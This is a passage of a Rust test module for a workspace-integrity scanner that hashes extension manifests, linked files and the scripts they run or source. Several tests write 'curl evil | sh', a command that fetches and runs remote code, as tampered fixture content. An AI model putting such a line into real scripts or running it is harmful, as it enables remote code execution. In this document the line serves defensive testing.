        // The target outside is neither listed nor read.
        assert!(
            before.covered.iter().all(|c| !c.path.ends_with("big")),
            "{:?}",
            before.covered
        );
        write(&outside.join("big"), "changed");
        assert_eq!(sha(&f.ws), before.sha256);
        // A FIFO is recorded by its type, never opened (it would block).
        // nix's `mkfifo` needs its `fs` feature, which the crate does not enable.
        let made = std::process::Command::new("mkfifo")
            .arg(ext.join("pipe"))
            .status()
            .unwrap_or_else(|e| panic!("{e}"));
        assert!(made.success());
        let with_fifo = Contents::scan(&f.ws).unwrap_or_else(|e| panic!("{e}"));
        assert!(
            with_fifo
                .covered
                .iter()
                .any(|c| c.path.ends_with("pipe") && c.kind == EntryKind::Special { what: "fifo" })
        );
    }

    #[test]
    fn the_review_can_tell_a_link_whose_target_is_hashed_from_one_covered_by_its_text_only() {
        let f = fixture();
        let ext = f.ws.join(".zot/extensions/helper");
        let outside = f.ws.with_file_name("outside.wasm");
        write(&outside, "\0asm");
        let links = [
            // Followed: a file of the folder, a folder linked in as an
            // extension, a tool's target.
            ("run", "run.sh", &ext),
            ("linked", "../../src/linked", &f.ws.join(".zot/extensions")),
            ("t.json", "../../data/t.json", &f.ws.join(".zot/tools")),
            // Covered by their text only: outside the workspace, inside
            // it but named by nothing, nowhere.
            ("out.wasm", outside.to_str().unwrap_or_default(), &ext),
            ("readme", "../../../README", &ext),
            ("gone", "nothing-here", &ext),
        ];
        write(
            &f.ws.join("src/linked/extension.json"),
            r#"{"name":"linked","exec":"true"}"#,
        );
        write(&f.ws.join("data/t.json"), "{}");
        write(&f.ws.join("README"), "hello");
        for (name, target, dir) in links {
            std::fs::create_dir_all(dir).unwrap_or_else(|e| panic!("{e}"));
            symlink(target, dir.join(name)).unwrap_or_else(|e| panic!("{e}"));
        }
        let contents = Contents::scan(&f.ws).unwrap_or_else(|e| panic!("{e}"));
        let followed: Vec<(String, bool)> = contents
            .covered
            .iter()
            .filter(|c| matches!(c.kind, EntryKind::Symlink { .. }))
            .map(|c| (c.path.display().to_string(), contents.follows_link(&c.path)))
            .collect();
        let expected: Vec<(String, bool)> = [
            (".zot/extensions/helper/gone", false),
            (".zot/extensions/helper/out.wasm", false),
            (".zot/extensions/helper/readme", false),
            (".zot/extensions/helper/run", true),
            (".zot/extensions/linked", true),
            (".zot/tools/t.json", true),
        ]
        .into_iter()
        .map(|(p, f)| (p.to_owned(), f))
        .collect();
        assert_eq!(followed, expected);
    }

    #[test]
    fn a_script_named_outside_the_folder_or_a_hardlink_is_covered_by_content() {
        let f = fixture();
        let ext = f.ws.join(".zot/extensions/helper");
        write(&f.ws.join("scripts/run.py"), "print(1)\n");
        write(
            &ext.join("extension.json"),
            r#"{"name":"helper","exec":"python3","args":["../../../scripts/run.py"]}"#,
        );
        let base = sha(&f.ws);
        write(&f.ws.join("scripts/run.py"), "print(2)\n");
        assert_ne!(sha(&f.ws), base, "the named script is covered");
        // A hardlink inside the folder is a file like any other: editing
        // it through the other name changes the hash.
        std::fs::hard_link(f.ws.join("scripts/run.py"), ext.join("hard.py"))
            .unwrap_or_else(|e| panic!("{e}"));
        let linked = sha(&f.ws);
        write(&f.ws.join("scripts/run.py"), "print(3)\n");
        assert_ne!(sha(&f.ws), linked);
    }

    #[test]
    fn a_script_a_native_extension_hands_a_shell_or_names_in_an_option_is_covered() {
        let f = fixture();
        let ext = f.ws.join(".zot/extensions/helper");
        // Each manifest runs (or reads as code) a file of the workspace
        // outside its folder without naming it as an argument of its own.
        let forms = [
            (r#"["-c","sh ../../../scripts/run.sh"]"#, "scripts/run.sh"),
            (
                r#"["-c","cd ../../../scripts && ./run.sh"]"#,
                "scripts/run.sh",
            ),
            (
                r#"["-e","--rcfile=../../../scripts/rc.sh"]"#,
                "scripts/rc.sh",
            ),
            (
                r#"["-c",". ../../../scripts/env.sh; exec ./run.sh"]"#,
                "scripts/env.sh",
            ),
            // Two braces and a word: a file name like any other here.
            (r#"["../../../scripts/{arg}.sh"]"#, "scripts/{arg}.sh"),
            // Found by a probe of the fix: `cd` after `cd`, `cd --`,
            // `pushd`, a redirection with no space, braces, a folder.
            (
                r#"["-c","cd ../../.. && cd scripts && sh run.sh"]"#,
                "scripts/run.sh",
            ),
            (
                r#"["-c","cd -- ../../../scripts && sh run.sh"]"#,
                "scripts/run.sh",
            ),
            (
                r#"["-c","pushd ../../../scripts >/dev/null; sh run.sh"]"#,
                "scripts/run.sh",
            ),
            (r#"["-c","sh<../../../scripts/run.sh"]"#, "scripts/run.sh"),
            (
                r#"["-c","bash ../../../scripts/{run,x}.sh"]"#,
                "scripts/run.sh",
            ),
            (r#"["../../../app"]"#, "app/__main__.py"),
        ];
        for (args, script) in forms {
            write(&f.ws.join(script), "echo 1\n");
            write(
                &ext.join("extension.json"),
                &format!(r#"{{"name":"helper","exec":"sh","args":{args}}}"#),
            );
            let base = sha(&f.ws);
            write(&f.ws.join(script), "curl evil | sh\n");
            assert_ne!(sha(&f.ws), base, "{args}: `{script}` is not covered");
        }
    }

    /// Attack (a probe of the fix above): the covered script sources
    /// another (`. ../../../scripts/run.sh`) or hands one to Python; that
    /// one was not covered, and ran changed. What a script writes (a log)
    /// is not covered: trust would end at its first run.
    #[test]
    fn what_a_covered_script_sources_or_runs_is_covered_and_what_it_writes_is_not() {
        let f = fixture();
        let ext = f.ws.join(".zot/extensions/helper");
        write(
            &f.ws.join("scripts/outer.sh"),
            "#!/bin/sh\n. ../../../scripts/run.sh\npython3 ../../../scripts/tool.py\n\
             echo ran >> ../../../log.txt\ncd ../../../lib && sh ./more.sh\n",
        );
        write(&f.ws.join("scripts/run.sh"), "echo 1\n");
        write(&f.ws.join("scripts/tool.py"), "print(1)\n");
        write(&f.ws.join("log.txt"), "");
        // The script in the folder sources one outside it, too.
        write(
            &ext.join("run.sh"),
            "#!/bin/sh\n. ../../../scripts/env.sh\n",
        );
        write(&f.ws.join("scripts/env.sh"), "X=1\n");
        write(
            &ext.join("extension.json"),
            r#"{"name":"helper","exec":"sh","args":["-c","sh ../../../scripts/outer.sh; ./run.sh"]}"#,
        );
        write(&f.ws.join("lib/more.sh"), "echo 1\n");
        // ... and what it runs after a `cd` of its own.
        for script in [
            "scripts/run.sh",
            "scripts/tool.py",
            "scripts/env.sh",
            "lib/more.sh",
        ] {
            let base = sha(&f.ws);
            write(&f.ws.join(script), "curl evil | sh\n");
            assert_ne!(sha(&f.ws), base, "`{script}` is not covered");
        }
        let base = sha(&f.ws);
        write(&f.ws.join("log.txt"), "ran\n");
        assert_eq!(sha(&f.ws), base, "what the script writes is covered");
    }

    #[test]
    fn only_folders_holding_a_manifest_are_walked_and_folders_count_against_the_cap() {
        let f = fixture();
        let base = Contents::scan(&f.ws).unwrap_or_else(|e| panic!("{e}"));
        // Attack: a link to `/` in `.zot/extensions` would walk the disk;
        // it holds no `extension.json`, so nothing would run from it.
        symlink("/", f.ws.join(".zot/extensions/root")).unwrap_or_else(|e| panic!("{e}"));
        write(&f.ws.join(".zot/extensions/notes.txt"), "not an extension");
        assert_eq!(sha(&f.ws), base.sha256);
        // Attack: a deep tree of empty folders inside a real extension.
        let mut deep = f.ws.join(".zot/extensions/helper");
        for _ in 0..20 {
            deep.push("d");
        }
        std::fs::create_dir_all(&deep).unwrap_or_else(|e| panic!("{e}"));
        let caps = Caps {
            bytes: 1 << 20,
            files: 10,
        };
        let err = Contents::scan_with(&f.ws, caps)
            .err()
            .map(|e| e.to_string())
            .unwrap_or_default();
        assert_eq!(err, "its extensions and data tools hold more than 10 files");
    }

    #[test]
    fn a_workspace_past_the_caps_cannot_be_hashed() {
        let f = fixture();
        let caps = Caps {
            bytes: 10,
            files: 100,
        };
        let err = Contents::scan_with(&f.ws, caps)
            .err()
            .map(|e| e.to_string())
            .unwrap_or_default();
        assert_eq!(err, "its extensions and data tools hold more than 10 bytes");
        let caps = Caps {
            bytes: 1 << 20,
            files: 1,
        };
        let err = Contents::scan_with(&f.ws, caps)
            .err()
            .map(|e| e.to_string())
            .unwrap_or_default();
        assert_eq!(err, "its extensions and data tools hold more than 1 files");
    }
}
